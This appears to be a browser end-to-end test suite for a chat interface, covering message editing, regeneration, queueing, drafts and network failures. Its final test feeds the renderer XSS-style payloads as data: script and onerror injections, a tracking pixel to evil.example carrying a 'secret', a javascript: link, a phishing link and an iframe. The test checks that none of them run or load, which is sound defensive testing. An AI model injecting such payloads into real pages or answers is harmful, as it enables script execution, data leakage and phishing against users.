/** A conversation in a real browser: said, edited, asked again, stopped, queued, and kept through failures. */
import type { Page } from "playwright-core";
import { describe, expect, inject, test } from "vitest";
import { HAS_BROWSER, type Visit } from "../browser.ts";
import { startCuttingProxy } from "../cutting-proxy.ts";
import { scriptModel } from "../model-script.ts";
import { answered, ask, beginThread, lastAnswer, messageBox, signIn } from "./sign-in.ts";
import { visitsOfSuite } from "./suite.ts";

/** Long enough to do something meanwhile. */
const SLOW = { text: "A word and another. ".repeat(60).trim(), piece: 8, pace_ms: 60 };

const visit = visitsOfSuite();

/** Signs somebody in and opens a new thread. */
async function converse(url = inject("openaiUrl")): Promise<Visit> {
  const visited = await visit(url);
  await signIn(visited.page);
  await beginThread(visited.page);
  return visited;
}

async function said(page: Page): Promise<string[]> {
  return await page.locator("article.user .text").allTextContents();
}

function button(page: Page, name: string) {
  return page.getByRole("button", { name, exact: true });
}

describe.skipIf(!HAS_BROWSER)("a message", () => {
  test("is edited and said anew in its place, and that is what a reload shows", async () => {
    await scriptModel([{ text: "The first answer." }, { text: "The second answer." }]);
    const { page, complaints } = await converse();
    await ask(page, "The first question");
    await answered(page);
    await button(page, "Edit").click();
    await messageBox(page).fill("The better question");
    await messageBox(page).press("Enter");
    await page.getByText("The second answer.").waitFor();
    await answered(page);
    expect(await said(page)).toEqual(["The better question"]);
    await page.reload();
    await page.getByText("The second answer.").waitFor();
    expect(await said(page)).toEqual(["The better question"]);
    expect(await page.getByText("The first answer.").count()).toBe(0);
    expect(complaints).toEqual([]);
  });

  test("is answered anew by the keyboard alone", async () => {
    await scriptModel([{ text: "One way to see it." }, { text: "Another way to see it." }]);
    const { page } = await converse();
    await messageBox(page).fill("How do you see it?");
    await messageBox(page).press("Enter");
    await page.getByText("One way to see it.").waitFor();
    await answered(page);
    await button(page, "Regenerate").focus();
    await page.keyboard.press("Enter");
    await page.getByText("Another way to see it.").waitFor();
    await answered(page);
    expect(await said(page)).toEqual(["How do you see it?"]);
    expect(await page.getByText("One way to see it.").count()).toBe(0);
  });

  test("is queued while a run is live, taken back, and the run is stopped", async () => {
    await scriptModel([SLOW]);
    const { page } = await converse();
    await ask(page, "The first question");
    await lastAnswer(page).getByText("A word and another.").first().waitFor();
    await ask(page, "The second question");
    const second = page.getByRole("article", { name: "You" }).last();
    await second.getByText(/queued/i).waitFor();
    await second.getByRole("button", { name: "Take back" }).click();
    await page.getByRole("article", { name: "You" }).nth(1).waitFor({ state: "detached" });
    expect(await said(page)).toEqual(["The first question"]);
    expect(await messageBox(page).inputValue()).toBe("The second question");
    await button(page, "Stop").click();
    await lastAnswer(page)
      .getByText(/^Stopped/)
      .waitFor();
    await button(page, "Stop").waitFor({ state: "detached" });
  });

  test("of two that are said during a run goes out after it, without a press", async () => {
    await scriptModel([{ ...SLOW, text: "Slow. ".repeat(20).trim() }, { text: "And the other." }]);
    const { page } = await converse();
    await ask(page, "The first question");
    await lastAnswer(page).getByText("Slow.").first().waitFor();
    await ask(page, "The second question");
    await page.getByText("And the other.").waitFor();
    expect(await said(page)).toEqual(["The first question", "The second question"]);
  });
});

describe.skipIf(!HAS_BROWSER)("what is not yet said", () => {
  test("is a draft, there again after a reload, and forgotten at log-out", async () => {
    const { page } = await converse();
    await messageBox(page).fill("Half a thought\nin two lines");
    await page.reload();
    await messageBox(page).waitFor();
    expect(await messageBox(page).inputValue()).toBe("Half a thought\nin two lines");
    const stored = () => page.evaluate(() => JSON.stringify(localStorage));
    expect(await stored()).toContain("Half a thought");
    await page.getByRole("button", { name: /^Account of/ }).click();
    await page.getByRole("menuitem", { name: "Log out" }).click();
    await page.getByRole("textbox", { name: "Email" }).waitFor();
    expect(await stored()).not.toContain("Half a thought");
  });

  test("grows with its lines, and stops growing before it hides the conversation", async () => {
    const { page } = await converse();
    const height = async () => (await messageBox(page).boundingBox())?.height ?? 0;
    const empty = await height();
    await messageBox(page).fill("One\ntwo\nthree");
    expect(await height()).toBeGreaterThan(empty);
    await messageBox(page).fill("A line\n".repeat(200));
    expect(await height()).toBeLessThan(400);
  });
});

describe.skipIf(!HAS_BROWSER)("on a bad network", () => {
  test("what is said offline waits, and goes out once when the network is back", async () => {
    await scriptModel([{ text: "It arrived." }]);
    const { page } = await converse();
    await page.context().setOffline(true);
    await page.getByText(/^You are offline\./).waitFor();
    await ask(page, "Does this arrive?");
    await page.getByText(/^Waits for the connection/).waitFor();
    await page.context().setOffline(false);
    await page.getByText("It arrived.").waitFor();
    await answered(page);
    expect(await said(page)).toEqual(["Does this arrive?"]);
    await page.reload();
    await page.getByText("It arrived.").waitFor();
    expect(await said(page)).toEqual(["Does this arrive?"]);
  });

  test("what waits outlives the page: another visit sends it, once", async () => {
    await scriptModel([{ text: "It arrived." }]);
    const { page } = await visit(inject("openaiUrl"));
    await page.routeWebSocket(/\/socket/, (socket) => void socket.close({ code: 1012 }));
    await signIn(page);
    await beginThread(page);
    await ask(page, "Does this arrive?");
    await page.getByText(/^Waits for the connection/).waitFor();
    const reader = await page.context().newPage();
    await reader.goto(page.url());
    await page.close();
    await reader.getByText("It arrived.").waitFor();
    expect(await said(reader)).toEqual(["Does this arrive?"]);
    await reader.reload();
    await reader.getByText("It arrived.").waitFor();
    expect(await said(reader)).toEqual(["Does this arrive?"]);
  });

  test("an answer that is cut again and again is whole in the end, and was asked for once", async () => {
    const text = "A whole sentence, with its end. ".repeat(20).trim();
    await scriptModel([{ text, pace_ms: 40 }]);
    const proxy = await startCuttingProxy(inject("openaiUrl"), [100, 700, 1_200]);
    try {
      const { page } = await converse(proxy.url);
      await ask(page, "The question");
      const answer = await answered(page);
      expect(await answer.locator(".markdown").textContent()).toBe(text);
      expect(await said(page)).toEqual(["The question"]);
      expect(proxy.cuts).toBe(3);
    } finally {
      await proxy.close();
    }
  });
});

describe.skipIf(!HAS_BROWSER)("a question to begin with", () => {
  test("begins a thread from home, and asks, by one press", async () => {
    await scriptModel([{ text: "By team, it goes here." }]);
    const { page, complaints } = await visit(inject("openaiUrl"));
    await signIn(page);
    await button(page, "Where does our money go, by team?").click();
    await page.getByText("By team, it goes here.").waitFor();
    expect(new URL(page.url()).pathname).toMatch(/^\/t\//);
    expect(await said(page)).toEqual(["Where does our money go, by team?"]);
    expect(complaints).toEqual([]);
  });
});

describe.skipIf(!HAS_BROWSER)("a hostile answer", () => {
  test("runs nothing, loads nothing and leads nowhere unsaid", async () => {
    const text = [
      "<script>document.title = 'run'</script><img src=x onerror=\"document.title = 'run'\">",
      "![see](https://evil.example/pixel?secret) [click](javascript:alert(1)) [in](/settings)",
      "[your bank](https://evil.example/login)",
      '<iframe src="https://evil.example"></iframe><style>body { display: none }</style>',
      "```html\n<script>alert(1)</script>\n```",
    ].join("\n\n");
    await scriptModel([{ text, piece: 3 }]);
    const { page, complaints } = await converse();
    const asked: string[] = [];
    page.on("request", (request) => asked.push(request.url()));
    page.on("dialog", () => asked.push("a dialog"));
    await ask(page, "Be hostile");
    const answer = await answered(page);
    const links = await answer.getByRole("link").allTextContents();
    expect(links).toEqual(["your bank (evil.example)"]);
    expect(await answer.locator("script, img, iframe, style").count()).toBe(0);
    expect(await page.title()).not.toBe("run");
    expect(asked.filter((url) => !url.startsWith(inject("openaiUrl")))).toEqual([]);
    expect(complaints).toEqual([]);
  });
});
